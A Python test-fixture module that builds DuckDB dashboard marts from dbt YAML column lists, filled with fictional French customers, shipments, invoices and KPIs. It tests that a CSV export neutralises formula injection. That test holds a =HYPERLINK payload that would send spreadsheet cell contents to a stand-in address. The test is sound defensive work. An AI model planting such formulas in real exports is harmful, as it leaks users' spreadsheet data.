"""Small published zone marts for the dashboard tests, built from the columns of the marts YAML.

Each table gets exactly the columns declared in dbt_project/models/marts/<table>.yml, typed by
naming convention, so a column renamed in the YAML breaks the dashboard tests that read it. The
publish log is written by the pipeline's own writer.
"""

from __future__ import annotations

import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import duckdb
import pandas as pd
import yaml

from dagster_project.publish.log import PublishEntry, write_publish_log
from dagster_project.settings import DBT_PROJECT_DIR
from dagster_project.zones import Zone
from dashboard import drilldown

MARTS_YAML_DIR = DBT_PROJECT_DIR / "models" / "marts"
MART_TABLES = (
    "dim_customers",
    "dim_products",
    "dim_carriers",
    "fct_order_lines",
    "fct_shipments",
    "fct_carrier_performance_weekly",
    "fct_work_orders",
    "fct_stock_positions",
    "fct_invoices",
    "fct_payments",
    "fct_zone_daily_kpis",
)
INTEGER_COLUMN = re.compile(
    r"(_id|_quantity|quantity|line_number|iso_year|iso_week|_hour|_days|reorder_point|"
    r"^orders|^order_lines|^invoices|^payments|_shipments|_work_orders|_positions)$"
)
# Customer names per zone: the zone-isolation tests look for the other zone's names.
CUSTOMERS = {
    "idf": ("Atelier Lutèce", "Brasserie Montmartre", "Clinique de Bercy"),
    "reunion": ("Sucrerie du Gol", "Pharmacie Saint-Denis", "Marché de Saint-Pierre"),
}
SEGMENTS = ("industry", "retail", "healthcare")
KPI_DAYS = 63


def column_type(column: str) -> str:
    if column.startswith(("is_", "has_")):
        return "BOOLEAN"
    if column.endswith("_at"):
        return "TIMESTAMPTZ"
    if column.endswith("_at_local"):
        return "TIMESTAMP"
    if column.endswith("_date"):
        return "DATE"
    if column.endswith("_watermarks") or column == "row_counts":
        return "JSON"
    if INTEGER_COLUMN.search(column):
        return "INTEGER"
    if re.search(r"(amount|price|cost|rate|revenue|pct|demand|cover|receivables|target)", column):
        return "DECIMAL(18, 4)"
    return "VARCHAR"


def yaml_columns(table: str) -> list[str]:
    """Return the column names declared for ``table`` in its marts YAML file."""
    document = yaml.safe_load((MARTS_YAML_DIR / f"{table}.yml").read_text(encoding="utf-8"))
    (model,) = [model for model in document["models"] if model["name"] == table]
    return [column["name"] for column in model["columns"]]


def _insert(connection: duckdb.DuckDBPyConnection, table: str, rows: list[dict]) -> None:
    columns = yaml_columns(table)
    unknown = {key for row in rows for key in row} - set(columns)
    assert not unknown, f"{table}: columns {sorted(unknown)} are not in {table}.yml"
    frame = pd.DataFrame(rows)  # noqa: F841 - read by the INSERT below
    connection.execute(f"INSERT INTO {table} BY NAME SELECT * FROM frame")


def _rows(zone: Zone, today: date, now: datetime) -> dict[str, list[dict]]:
    common = {"zone_code": zone.code, "zone_time_zone": zone.time_zone, "zone_currency": "EUR"}
    base = 1000 if zone.code == "idf" else 2000
    names = CUSTOMERS[zone.code]
    customers = [
        {
            **common,
            "customer_id": base + index,
            "customer_name": name,
            "market_segment": SEGMENTS[index],
            "city": "Ville",
        }
        for index, name in enumerate(names)
    ]
    order_lines = [
        {
            **common,
            "order_line_key": f"{base + index}|1",
            "order_id": base + index,
            "line_number": 1,
            "customer_id": base + index % 3,
            "product_id": 1 + index % 2,
            "market_segment": SEGMENTS[index % 3],
            "quantity": 2,
            "net_amount": 100.0 * (index + 1),
            "ordered_at": now - timedelta(days=index),
            "order_local_date": today - timedelta(days=index),
        }
        for index in range(6)
    ]
    long_ago = now - timedelta(days=20)
    shipments = [
        # Delivered two days late by carrier 1.
        {
            **common,
            "shipment_id": base + 1,
            "order_id": base,
            "customer_id": base,
            "carrier_id": 1,
            "promised_at": long_ago,
            "delivered_at": long_ago + timedelta(days=2),
            "order_local_date": today - timedelta(days=22),
            "promised_local_date": today - timedelta(days=20),
            "delivered_local_date": today - timedelta(days=18),
            "is_delivered": True,
            "delay_days": 2,
            "is_late": True,
            "is_on_time": False,
        },
        # Still on the road well after its promise, with carrier 2.
        {
            **common,
            "shipment_id": base + 2,
            "order_id": base + 1,
            "customer_id": base + 1,
            "carrier_id": 2,
            "promised_at": long_ago,
            "order_local_date": today - timedelta(days=22),
            "promised_local_date": today - timedelta(days=20),
            "is_delivered": False,
        },
    ]
    work_orders = [
        {
            **common,
            "work_order_id": base + 1,
            "product_id": 1,
            "work_order_status": "in_progress",
            "planned_quantity": 100,
            "produced_quantity": 40,
            "progress_pct": 40.0,
            "planned_end_date": today - timedelta(days=1),
            "is_late": True,
        },
        {
            **common,
            "work_order_id": base + 2,
            "product_id": 2,
            "work_order_status": "planned",
            "planned_quantity": 50,
            "produced_quantity": 0,
            "progress_pct": 0.0,
            "planned_end_date": today + timedelta(days=5),
            "is_late": False,
        },
    ]
    stock = [
        {
            **common,
            "stock_position_key": "1|1",
            "site_id": 1,
            "product_id": 1,
            "site_name": f"Entrepôt {zone.name}",
            "available_quantity": 0,
            "reorder_point": 10,
            "is_below_reorder_point": True,
            "is_stock_out": True,
        },
        {
            **common,
            "stock_position_key": "1|2",
            "site_id": 1,
            "product_id": 2,
            "site_name": f"Entrepôt {zone.name}",
            "available_quantity": 50,
            "reorder_point": 10,
            "is_below_reorder_point": False,
            "is_stock_out": False,
        },
    ]
    invoices = [
        {
            **common,
            "invoice_id": base + index,
            "customer_id": base + index % 3,
            "invoice_date": today - timedelta(days=days + 30),
            "due_date": today - timedelta(days=days),
            "invoice_status": "issued",
            "amount": 500.0,
            "outstanding_amount": 500.0,
            "days_overdue": max(days, 0),
            "ageing_bucket": bucket,
        }
        for index, (days, bucket) in enumerate([(-5, "not_due"), (10, "1-30"), (95, "90+")])
    ]
    payments = [
        {
            **common,
            "payment_id": base + 1,
            "invoice_id": base,
            "customer_id": base,
            "amount": 200.0,
            "paid_at": now - timedelta(days=3),
            "paid_local_date": today - timedelta(days=3),
        },
    ]
    kpis = [
        {
            **common,
            "local_date": today - timedelta(days=offset),
            "is_working_day": (today - timedelta(days=offset)).isoweekday() <= 5,
            "revenue": 1000.0 + offset,
            "revenue_target": zone.daily_revenue_target,
            "delivered_shipments": 10,
            "on_time_shipments": 9,
            "on_time_rate": 0.9,
            "on_time_rate_target": zone.on_time_rate_target,
            "overdue_receivables": 1500.0 - offset,
            "late_work_orders": 1 + offset % 2,
            "stock_out_positions": 1 if offset == 0 else None,
        }
        for offset in range(KPI_DAYS)
    ]
    weekly = [
        {
            **common,
            "carrier_id": carrier_id,
            "carrier_name": name,
            "iso_year": 2026,
            "iso_week": 40,
            "week_start_date": today - timedelta(days=today.weekday() + 7),
            "delivered_shipments": 10,
            "on_time_shipments": on_time,
            "on_time_rate": on_time / 10,
            "carrier_company_on_time_rate": 0.9,
            "company_on_time_rate": 0.9,
        }
        for carrier_id, name, on_time in [(1, "Transports Alizé", 6), (2, "Express Seine", 9)]
    ]
    return {
        "dim_customers": customers,
        "dim_products": [
            {"product_id": 1, "sku": "VIS-001", "product_name": "Vis inox"},
            {"product_id": 2, "sku": "ECR-002", "product_name": "Écrou laiton"},
        ],
        "dim_carriers": [
            {"carrier_id": 1, "carrier_name": "Transports Alizé"},
            {"carrier_id": 2, "carrier_name": "Express Seine"},
        ],
        "fct_order_lines": order_lines,
        "fct_shipments": shipments,
        "fct_carrier_performance_weekly": weekly,
        "fct_work_orders": work_orders,
        "fct_stock_positions": stock,
        "fct_invoices": invoices,
        "fct_payments": payments,
        "fct_zone_daily_kpis": kpis,
    }


def build_zone_mart(
    marts_dir: Path, zone: Zone, *, published_at: datetime | None, now: datetime | None = None
) -> Path:
    """Write or replace ``marts_dir/<zone>.duckdb``; ``published_at=None`` leaves the log empty."""
    now = now or datetime.now(UTC)
    today = now.astimezone(zone.tz).date()
    path = marts_dir / f"{zone.code}.duckdb"
    marts_dir.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    connection = duckdb.connect(str(path))
    try:
        rows = _rows(zone, today, now)
        for table in MART_TABLES:
            columns = ", ".join(f'"{name}" {column_type(name)}' for name in yaml_columns(table))
            connection.execute(f"CREATE TABLE {table} ({columns})")
            _insert(connection, table, rows[table])
        if published_at is None:
            write_publish_log(connection, _entry(zone, now), None)
            connection.execute("DELETE FROM _publish_log")
        else:
            write_publish_log(connection, _entry(zone, published_at), None)
    finally:
        connection.close()
    return path


def _entry(zone: Zone, published_at: datetime) -> PublishEntry:
    return PublishEntry(
        run_id="run-0001",
        zone_code=zone.code,
        published_at=published_at,
        source_watermarks=[],
        row_counts={"fct_order_lines": 6},
        checks_passed=["fct_order_lines_suite", "fct_invoices_suite"],
        checks_failed=[],
    )


def test_every_mart_table_has_a_yaml_file():
    declared = {path.stem for path in MARTS_YAML_DIR.glob("*.yml")}
    assert set(MART_TABLES) <= declared, sorted(set(MART_TABLES) - declared)


def test_csv_export_keeps_formulas_inert():
    # A customer named =HYPERLINK(...) in the source ran as a formula when the export was
    # opened in a spreadsheet, and could send other cells to a web address.
    rows = pd.DataFrame(
        {
            "customer_name": ['=HYPERLINK("http://127.0.0.1:9/x?"&A2,"x")', "@SUM(1)", "Zoë"],
            "quantity": [-3, 2, 1],
        }
    )
    text = drilldown.csv_export(rows).decode("utf-8-sig").splitlines()
    assert text[1].startswith("\"'=HYPERLINK(")
    assert text[2] == "'@SUM(1),2"
    assert text[3] == "Zoë,1"
    assert text[1].endswith(",-3")
